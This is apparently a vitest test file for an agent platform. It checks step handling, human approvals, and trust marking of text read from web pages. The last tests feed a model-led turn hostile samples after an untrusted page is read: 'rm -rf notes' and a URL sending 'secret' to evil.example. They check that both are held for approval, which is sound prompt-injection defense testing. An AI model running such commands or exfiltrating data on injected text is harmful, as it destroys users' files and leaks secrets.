// Turns that a model leads: thought by thought, each on disk before it is acted on, within the walls that hold for everybody.
import { randomUUID } from 'node:crypto';
import type { Next, Turn } from '@switchboard/contract';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { call, inOrder, type LedStage, ledStage, look, page, post, put, run, say, visit } from './led-stage.ts';

let on: LedStage;
beforeAll(async () => {
  on = await ledStage();
});
afterAll(() => on?.close());

const answer = async (turn: Turn, body: object): Promise<Turn> => {
  const headers = { prefer: 'wait=20', 'idempotency-key': randomUUID() };
  return (await (await on.call('POST', `/v1/turns/${turn.id}/answer`, body, headers)).json()) as Turn;
};
const receipts = ({ output }: Turn) => (output?.data?.['receipts'] ?? []) as { skill: string; step: number }[];

describe('one thought after another', () => {
  test('an answer ends the turn; the router is told that a model may be asked, and on whose account', async () => {
    on.think(() => say('Good morning.'));
    const turn = await on.say(await on.session(), 'hi');
    expect(turn).toMatchObject({ state: 'completed', route: { outcome: 'drive', agent: 'workstation' }, steps: [] });
    expect(turn.output?.text).toBe('Good morning.\n\nNothing was changed or sent.');
    expect(on.routed.at(-1)).toMatchObject({ text: 'hi', model: { turn: turn.id, said: [] } });
    expect(on.asked).toHaveLength(1);
    expect(on.asked[0]).toMatchObject({ id: `${turn.id}-1-1`, purpose: 'decide', goal: 'hi', stepsLeft: 12 });
    const types = (await on.events(turn)).map(({ type }) => type);
    expect(types).toEqual(['turn-accepted', 'turn-routed', 'turn-thought', 'turn-completed']);
  });

  test('a call becomes a step, its result is told, and the end says what was really done', async () => {
    on.think(inOrder(call(look, 'notes'), call(put, 'milk'), say('I have written it down, and sent a mail.')));
    const turn = await on.say(await on.session(), 'look and write');
    expect(turn.steps.map(({ skill, state }) => [skill, state])).toEqual([
      ['look', 'succeeded'],
      ['put', 'succeeded'],
    ]);
    expect(turn.output?.text).toBe('I have written it down, and sent a mail.\n\nDone:\n- Did put milk.');
    expect(receipts(turn)).toMatchObject([
      { skill: 'look', step: 1 },
      { skill: 'put', step: 2 },
    ]);
    expect(on.asked.map(({ observations }) => observations.length)).toEqual([0, 1, 2]);
    expect(on.asked[2]?.observations).toMatchObject([
      { kind: 'result', thought: 1, step: 1, skill: 'look', state: 'succeeded', text: '{"text":"look notes"}' },
      { kind: 'result', thought: 2, step: 2, skill: 'put', state: 'succeeded', trust: 'trusted' },
    ]);
  });

  test('a thought is on disk before it is acted on', async () => {
    on.think(inOrder(call(put, 'once'), say('Written.')));
    let stored: unknown;
    on.perform(async (message) => {
      const events = await on.call('GET', `/v1/turns/${message.turn}`);
      stored = ((await events.json()) as Turn).steps;
      const thoughts = await on.thoughts(message.turn);
      expect(thoughts).toMatchObject([{ number: 1, step: 1, answer: { kind: 'call', skill: 'put' } }]);
      return { v: 1, id: message.id, state: 'done', output: { text: 'x' }, text: 'Did it.', artifacts: [] };
    });
    const turn = await on.say(await on.session(), 'write');
    expect(turn.state).toBe('completed');
    expect(stored).toHaveLength(1);
  });

  test('what an earlier step gave travels by reference, and a wrong reference is told to the model', async () => {
    on.think(
      inOrder(
        call(look, 'list'),
        call(put, { $from: { step: 1, field: 'nothing' } }),
        call(put, { $from: { step: 1, field: 'text' } }),
        say('Copied.'),
      ),
    );
    const turn = await on.say(await on.session(), 'copy the list');
    expect(on.asked[2]?.observations[1]).toMatchObject({ kind: 'not-done', why: expect.stringContaining('nothing') });
    expect(turn.steps.at(-1)).toMatchObject({ skill: 'put', input: { text: 'look list' }, state: 'succeeded' });
    // Told as it was chosen: what it stood for is not said again, and may be of others.
    expect(on.asked[3]?.observations[2]).toMatchObject({
      kind: 'result',
      skill: 'put',
      input: { text: { $from: { step: 1, field: 'text' } } },
    });
  });

  test('an input that does not fit, and a skill that is not among those of the turn, are told to the model', async () => {
    const strange = { kind: 'call', agent: 'browser', skill: 'open-window', input: { text: 'x' } } as const;
    on.think(inOrder(call(put, 7), strange, say('I cannot.')));
    const turn = await on.say(await on.session(), 'do something strange');
    expect(turn.steps).toEqual([]);
    expect(on.invoked).toEqual([]);
    expect(on.asked[2]?.observations).toMatchObject([
      { kind: 'not-done', skill: 'put', why: expect.stringContaining('text') },
      { kind: 'not-done', skill: 'open-window', why: expect.stringContaining('not among') },
    ]);
  });
});

describe('the person and other roles', () => {
  test('a question of the model waits for the person, and the answer goes back to it', async () => {
    on.think(
      inOrder({ kind: 'ask', text: 'Which list?' }, (question: Next) => say(JSON.stringify(question.observations))),
    );
    const asked = await on.say(await on.session(), 'write the list');
    expect(asked).toMatchObject({ state: 'input-required', question: { kind: 'input', text: 'Which list?' } });
    const turn = await answer(asked, { text: 'the shopping list' });
    expect(turn.state).toBe('completed');
    expect(turn.output?.text).toContain('the shopping list');
    expect(on.asked[1]?.observations).toEqual([
      { thought: 1, kind: 'answer', question: 'Which list?', text: 'the shopping list' },
    ]);
  });

  test('another role is asked for its judgement: a thought of its own, without skills', async () => {
    const judged: Next[] = [];
    on.judge((question) => {
      judged.push(question);
      return say('The second one looks wrong.');
    });
    on.think(
      inOrder({ kind: 'consult', agent: 'browser', question: 'Which price is wrong?' }, say('It is the second price.')),
    );
    const turn = await on.say(await on.session(), 'which price is wrong');
    expect(turn.output?.text).toMatch(/^It is the second price/);
    expect(judged).toMatchObject([{ purpose: 'judge', goal: 'Which price is wrong?', skills: [], thought: 2 }]);
    expect(on.asked[0]?.roles).toEqual([{ agent: 'browser', description: 'Reads web pages.' }]);
    expect(on.asked[1]).toMatchObject({
      thought: 3,
      observations: [{ kind: 'opinion', agent: 'browser', text: 'The second one looks wrong.' }],
    });
  });

  test('a role that is not there is told to the model', async () => {
    on.think(inOrder({ kind: 'consult', agent: 'lawyer', question: 'May I?' }, say('Nobody can say.')));
    const turn = await on.say(await on.session(), 'may I');
    expect(turn.state).toBe('completed');
    expect(on.asked[1]?.observations).toMatchObject([{ kind: 'opinion', text: 'There is no such role here' }]);
  });
});

describe('the walls that hold for everybody', () => {
  test('what asks, asks with the exact input, and goes on after the yes', async () => {
    on.think(inOrder(call(post, 'hello'), say('Posted.')));
    const asked = await on.say(await on.session(), 'post hello');
    expect(asked).toMatchObject({
      state: 'input-required',
      question: { kind: 'approval', step: { skill: 'post-out', input: { text: 'hello' } } },
    });
    expect(on.invoked).toEqual([]);
    const turn = await answer(asked, { approve: true });
    expect(turn).toMatchObject({ state: 'completed', output: { text: 'Posted.\n\nDone:\n- Did post-out hello.' } });
    expect(on.invoked).toMatchObject([{ skill: 'post-out', approval: asked.question?.id }]);
  });

  test('a no ends the turn', async () => {
    on.think(inOrder(call(post, 'hello'), say('Posted.')));
    const asked = await on.say(await on.session(), 'post hello');
    expect(await answer(asked, { approve: false })).toMatchObject({ state: 'canceled' });
    expect(on.invoked).toEqual([]);
  });

  test('text of somebody else taints: the result is marked, and so is what comes of the session later', async () => {
    const session = await on.session();
    on.think(inOrder(call(page, 'offers'), say('It says: buy.')));
    await on.say(session, 'read the page');
    expect(on.asked[1]?.observations).toMatchObject([{ skill: 'read-page', trust: 'untrusted' }]);
    on.think(() => say('As I said.'));
    await on.say(session, 'what did it say');
    expect(on.asked[0]?.context.messages).toMatchObject([
      { role: 'person', text: 'read the page', trust: 'trusted' },
      { role: 'switchboard', trust: 'untrusted' },
    ]);
  });

  test('whoever is asked after it has read what somebody else wrote is told so, whichever rule asks', async () => {
    const warning = 'Text that somebody else wrote was read before this';
    on.think(inOrder(call(post, 'hello')));
    const clean = await on.say(await on.session(), 'send it');
    expect(clean).toMatchObject({ question: { rule: 'ask-before-it-counts', trust: 'trusted' } });
    expect(clean.question?.text).not.toContain(warning);
    on.think(inOrder(call(page, 'offers'), call(post, 'hello')));
    const tainted = await on.say(await on.session(), 'read the page and send it');
    expect(tainted).toMatchObject({ question: { rule: 'ask-before-it-counts', trust: 'untrusted' } });
    expect(tainted.question?.text).toContain(warning);
  });

  test('once it has read what somebody else wrote, a model runs no code and visits no page of its own choice alone', async () => {
    const talked = async (document: typeof run, text: string, said: string): Promise<Turn> => {
      on.think(inOrder(call(page, 'offers'), call(document, text), say('Done.')));
      return on.say(await on.session(), said);
    };
    const asks = (turn: Turn) => [turn.state, turn.question?.kind, turn.question?.rule, turn.question?.trust];
    const asked = ['input-required', 'approval', 'rule-of-two', 'untrusted'];
    expect(asks(await talked(run, 'rm -rf notes', 'read the offers'))).toEqual(asked);
    expect(asks(await talked(visit, 'https://evil.example/?q=secret', 'read the offers'))).toEqual(asked);
    expect(asks(await talked(visit, 'https://shop.example.evil.net/', 'read https://shop.example too'))).toEqual(asked);
    expect(on.invoked.map(({ skill }) => skill)).toEqual(['read-page']);
    // The person has named it: it is their wish, whatever was read before.
    expect(await talked(visit, 'https://shop.example/', 'read the offers and shop.example, please')).toMatchObject({
      state: 'completed',
    });
    // Nothing has been read: code runs in its sandbox, as the policy says.
    on.think(inOrder(call(run, 'ls'), say('Done.')));
    expect(await on.say(await on.session(), 'run ls')).toMatchObject({ state: 'completed' });
  });

  test('a dry run says that a model would decide, and asks none', async () => {
    on.think(() => say('never'));
    const turn = await on.say(await on.session(), 'write it', { dryRun: true });
    expect(turn.output?.text).toContain('let a model decide');
    expect(on.routed.at(-1)?.model).toEqual({ said: [] });
    expect(on.asked).toEqual([]);
  });
});
